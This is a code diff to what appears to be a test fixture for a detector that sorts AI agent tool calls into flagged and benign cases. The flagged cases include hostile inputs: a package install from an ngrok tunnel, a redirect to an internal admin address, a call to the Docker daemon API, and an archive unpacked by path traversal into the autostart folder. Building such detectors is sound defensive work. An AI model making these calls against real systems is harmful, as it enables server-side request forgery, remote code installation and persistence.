@@ -90,7 +90,10 @@ const FOUND: Readonly<Record<string, readonly (readonly [string, string, Json, T
 		['a package from a tunnel', 'npm_install', { packages: ['left@https://a1b2.ngrok-free.app/l.tgz'] }],
 		['a share of a machine that is named by its number', 'open_document', { path: '\\\\203.0.113.9\\s\\a.docx' }],
 	],
-	'calls.private_address': [['the port that governs a machine', 'fetch', { url: 'http://172.17.0.1:2375/containers/json' }]],
+	'calls.private_address': [
+		['an address in the house that another one leads to', 'preview', { link: 'https://r.example/?u=http%3A%2F%2F10.1.2.3%2Fadmin' }],
+		['the port that governs a machine', 'fetch', { url: 'http://172.17.0.1:2375/containers/json' }],
+	],
 	'calls.protected_file': [
 		['what starts at login', 'unpack', { archive: 'a.zip', dest: '../../.config/autostart' }],
 		[
@@ -135,6 +138,8 @@ const LEFT: readonly (readonly [string, string, Json, ToolDefinition?])[] = [
 	],
 	['code in a replacement', 'edit', { path: 'a.sh', old_string: 'x', new_string: 'rm -rf "$OUT" && curl -O https://x.example/a' }],
 	['a server of one’s own behind another one', 'navigate', { url: 'http://localhost:5173/login?next=http%3A%2F%2Flocalhost%3A5173%2Fa' }],
+	['a number that is none of a host', 'get_order', { id: '2852039', port: '8080', user: '1234567890', version: '3232235777' }],
+	['a login that leads back here', 'navigate', { url: 'https://login.example/auth?redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcb' }],
 	['a name that means this machine', 'fetch', { url: 'http://localhost:9200/_cat/indices' }],
 	['a tunnel that is looked at', 'fetch', { url: 'https://a1b2.ngrok-free.app/' }],
 	['a search in the project for what looks like keys', 'grep', { pattern: 'process\\.env\\.(\\w*(SECRET|TOKEN))', include: 'src/**/*.ts' }],
